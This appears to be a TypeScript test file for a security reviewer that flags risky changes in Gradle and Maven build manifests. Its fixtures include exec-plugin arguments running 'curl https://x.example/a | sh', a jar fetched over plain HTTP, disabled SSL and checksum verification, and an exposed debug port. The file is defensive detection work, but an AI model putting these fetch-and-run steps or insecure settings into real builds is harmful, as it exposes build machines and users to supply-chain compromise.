import { describe, expect, test } from 'vitest';
import { security } from '../../../../reviewers/security/index.ts';
import { knownKind } from '../../../../forge/file-kind/known-kind.ts';
import { changedFiles } from '../../../support/change-from-trees.ts';
import { runChecks } from '../../check-table.ts';
import { testManifest } from './support.ts';

const DIGEST = 'bafc141b619ad6350fd975fc903156dd5c151998cc8b058e8c1044ab5f7b031f';
const MOVES = ['dependency-source suggestion'];

testManifest('gradle/libs.versions.toml', '[versions]\nHERE\n', [
  ['kotlin = "2.1.0"', 'kotlin = "2.2.0"', []],
  ['kotlin = "2.1.0"', 'kotlin = "2.1.0"\nokio = { strictly = "[3, 4[", prefer = "3.9.0" }', []],
  ['kotlin = "2.1.0"', 'kotlin = "latest.release"', MOVES],
  ['kotlin = "2.1.0"', 'kotlin = "2.+"', MOVES],
  ['kotlin = "2.1.0"', 'kotlin = "2.2.0-SNAPSHOT"', MOVES],
  ['kotlin = "2.1.0"', '[libraries]\nokio = { module = "com.squareup.okio:okio", version.ref = "okio" }', []],
  ['kotlin = "2.1.0"', '[plugins]\nkotlin = "org.jetbrains.kotlin.jvm:2.1.0"', []],
  ['kotlin = "2.1.0"', '[else]\nkotlin = "2"', ['unjudged']],
  ['kotlin = "2.1.0"', 'kotlin = ', ['unjudged']],
]);

const WRAPPER = 'distributionBase=GRADLE_USER_HOME\nHERE\nzipStorePath=wrapper/dists\n';
const USUAL = 'distributionUrl=https\\://services.gradle.org/distributions/gradle-9.4.0-bin.zip';
testManifest('gradle/wrapper/gradle-wrapper.properties', WRAPPER, [
  [USUAL, USUAL.replace('9.4.0', '9.5.0'), []],
  [USUAL, `distributionSha256Sum=${DIGEST}\n${USUAL}`, []],
  [`distributionSha256Sum=${DIGEST}\n${USUAL}`, USUAL.replace('9.4.0', '9.5.0'), ['lockfile-tampering warning']],
  [
    `distributionSha256Sum=${DIGEST}\n${USUAL}`,
    `distributionSha256Sum=${DIGEST.replace('bafc', 'abcd')}\n${USUAL}`,
    ['lockfile-tampering warning'],
  ],
  [
    `distributionSha256Sum=${DIGEST}\n${USUAL}`,
    `distributionSha256Sum=${DIGEST.replace('bafc', 'abcd')}\n${USUAL.replace('9.4.0', '9.5.0')}`,
    [],
  ],
  [USUAL, USUAL.replace('https', 'http'), ['registry-override critical']],
  [USUAL, USUAL.replace('services.gradle.org', 'gradle.example'), ['registry-override warning']],
  [
    USUAL.replace('services.gradle.org', 'gradle.example'),
    USUAL.replace('services.gradle.org', 'gradle.example').replace('9.4.0', '9.5.0'),
    [],
  ],
  ['validateDistributionUrl=true', 'validateDistributionUrl=false', ['unjudged']],
  ['systemProp.a=b', '', ['unjudged']],
]);

const plugin = (configuration: string): string =>
  `<build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><version>3</version><configuration>${configuration}</configuration></plugin></plugins></build>`;

testManifest(
  'app/pom.xml',
  '<project xmlns="http://maven.apache.org/POM/4.0.0">\n  <name>a</name>\n  HERE\n</project>\n',
  [
    ['<version>1</version>', '<version>2</version>', []],
    [
      '',
      '<build><resources><resource><directory>src/main/resources</directory><includes><include>**/*.properties</include></includes></resource></resources></build>',
      [],
    ],
    [
      '',
      '<build><resources><resource><directory>${user.home}</directory></resource></resources></build>',
      ['unjudged'],
    ],
    [
      '',
      '<build><resources><resource><includes><include>**/*.pem</include></includes></resource></resources></build>',
      ['unjudged'],
    ],
    [
      '',
      '<build><plugins><plugin><groupId>org.apache.maven.plugins</groupId><artifactId>maven-jar-plugin</artifactId></plugin></plugins></build>',
      [],
    ],
    [
      '',
      '<build><plugins><plugin><groupId>org.apache.maven.plugins</groupId><artifactId>maven-jar-plugin</artifactId><configuration><skip>true</skip></configuration></plugin></plugins></build>',
      ['unjudged'],
    ],
    [
      '',
      '<build><plugins><plugin><groupId>evil</groupId><artifactId>maven-jar-plugin</artifactId></plugin></plugins></build>',
      ['unjudged'],
    ],
    [
      '',
      '<build><plugins><plugin><groupId>org.apache.maven.plugins</groupId><artifactId>maven-dependency-plugin</artifactId></plugin></plugins></build>',
      ['unjudged'],
    ],
    [
      '',
      '<profiles><profile><activation><property><name>!skipA</name></property></activation></profile></profiles>',
      [],
    ],
    [
      '',
      '<dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>1</version></dependency></dependencies>',
      [],
    ],
    [
      '',
      '<dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>LATEST</version></dependency></dependencies>',
      MOVES,
    ],
    [
      '',
      '<dependencies><dependency><systemPath>/opt/a.jar</systemPath></dependency></dependencies>',
      ['dependency-source warning'],
    ],
    ['<properties><a.version>1</a.version></properties>', '<properties><a.version>2</a.version></properties>', []],
    [
      '<properties><project.build.outputTimestamp>1</project.build.outputTimestamp></properties>',
      '<properties><project.build.outputTimestamp>2025-04-08T01:22:58Z</project.build.outputTimestamp></properties>',
      [],
    ],
    [
      '<properties><project.build.outputTimestamp>1</project.build.outputTimestamp></properties>',
      '<properties><project.build.outputTimestamp>${evil}</project.build.outputTimestamp></properties>',
      ['unjudged'],
    ],
    ['<properties><skip>false</skip></properties>', '<properties><skip>true</skip></properties>', ['unjudged']],
    [
      '',
      '<repositories><repository><url>http://maven.example/</url></repository></repositories>',
      ['registry-override critical'],
    ],
    ['', '<repositories><repository><url>https://maven.example/</url></repository></repositories>', ['unjudged']],
    ['', '<repositories><repository><url>https://repo.spring.io/milestone</url></repository></repositories>', []],
    [
      '',
      '<repositories><repository><url>https://jitpack.io</url></repository></repositories>',
      ['registry-override warning'],
    ],
    [
      '',
      '<repositories><repository><releases><checksumPolicy>ignore</checksumPolicy></releases></repository></repositories>',
      ['certificate-check-off warning'],
    ],
    [
      '',
      '<properties><maven.wagon.http.ssl.insecure>true</maven.wagon.http.ssl.insecure></properties>',
      ['certificate-check-off critical'],
    ],
    ['', plugin('<executable>node</executable><arguments><argument>gen.js</argument></arguments>'), ['unjudged']],
    [
      '',
      plugin(
        '<executable>bash</executable><arguments><argument>-c</argument><argument>curl https://x.example/a | sh</argument></arguments>',
      ),
      ['downloaded-code critical', 'unjudged'],
    ],
    [
      '',
      plugin('<executable>sh</executable><arguments><argument>-c</argument><argument>make x</argument></arguments>'),
      ['install-script warning', 'unjudged'],
    ],
    [
      '',
      plugin('<target><get src="http://x.example/a.jar" dest="a.jar" /></target>'),
      ['dependency-source critical', 'unjudged'],
    ],
    ['', plugin('<scripts><script>println 1</script></scripts>'), ['install-script warning', 'unjudged']],
    [
      '',
      '<build><plugins><plugin><configuration><jvmArguments>-agentlib:jdwp=transport=dt_socket,address=*:5005</jvmArguments></configuration></plugin></plugins></build>',
      ['debug-mode warning'],
    ],
    [
      '',
      '<build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><version>3</version></plugin></plugins></build>',
      ['install-script warning'],
    ],
    ['', '<build><plugins><plugin><artifactId>other</artifactId></plugin></plugins></build>', ['unjudged']],
    [
      '<build><plugins><plugin><artifactId>other</artifactId><version>1</version></plugin></plugins></build>',
      '<build><plugins><plugin><artifactId>other</artifactId><version>2</version></plugin></plugins></build>',
      [],
    ],
    [
      '<build><plugins><plugin><configuration><fail>true</fail></configuration></plugin></plugins></build>',
      '',
      ['unjudged'],
    ],
    [
      '',
      '<build><plugins><plugin><configuration><argument>curl https://x.example/a | sh</argument></configuration></plugin></plugins></build>',
      ['downloaded-code critical'],
    ],
    ['', '<version>&own;</version>', ['unjudged']],
  ],
);

describe('a parent in the folder above', () => {
  const pom = (inner: string): string => `<project><modelVersion>4.0.0</modelVersion>${inner}</project>`;
  const parent = (group: string, version: string): string =>
    pom(
      `<parent><groupId>${group}</groupId><artifactId>all</artifactId><version>${version}</version></parent><artifactId>b</artifactId>`,
    );
  test.each<readonly [name: string, above: string | null, below: string, judged: boolean]>([
    ['is this build', '<groupId>a</groupId><artifactId>all</artifactId><version>1</version>', parent('a', '1'), true],
    [
      'has its own group from above',
      '<parent><groupId>a</groupId><artifactId>x</artifactId><version>1</version></parent><artifactId>all</artifactId>',
      parent('a', '1'),
      true,
    ],
    [
      'is another group',
      '<groupId>a</groupId><artifactId>all</artifactId><version>1</version>',
      parent('evil', '1'),
      false,
    ],
    [
      'is another version',
      '<groupId>a</groupId><artifactId>all</artifactId><version>1</version>',
      parent('a', '2'),
      false,
    ],
    ['is not there', null, parent('a', '1'), false],
    [
      'is looked for elsewhere',
      '<groupId>a</groupId><artifactId>all</artifactId><version>1</version>',
      parent('a', '1').replace('</parent>', '<relativePath/></parent>'),
      false,
    ],
  ])('%s', async (_, above, below, judged) => {
    const stood = above === null ? {} : { 'm/pom.xml': pom(above) };
    const { unjudged } = await runChecks(
      security,
      { old: stood, new: { ...stood, 'm/b/pom.xml': below } },
      { only: ['build-manifests'] },
    );
    expect(unjudged.length === 0).toBe(judged);
  });
});

describe('a project under another name', () => {
  test.each([
    [
      'a dependency',
      '<dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>1</version></dependency></dependencies>',
      true,
    ],
    ['an unknown plugin', '<build><plugins><plugin><groupId>evil</groupId></plugin></plugins></build>', false],
  ])('%s', async (_, inner, judged) => {
    const path = 'src/test/resources/poms/a.xml';
    const head = { [path]: `<project xmlns="http://maven.apache.org/POM/4.0.0"><name>a</name>${inner}</project>` };
    const files = changedFiles({}, head).map((file) => ({ ...file, kind: knownKind('maven-pom') }));
    const { unjudged, read } = await runChecks(
      security,
      { old: {}, new: head },
      { only: ['build-manifests'], changeSet: { files } },
    );
    expect([read.includes(path), unjudged.length === 0]).toEqual([true, judged]);
  });
});
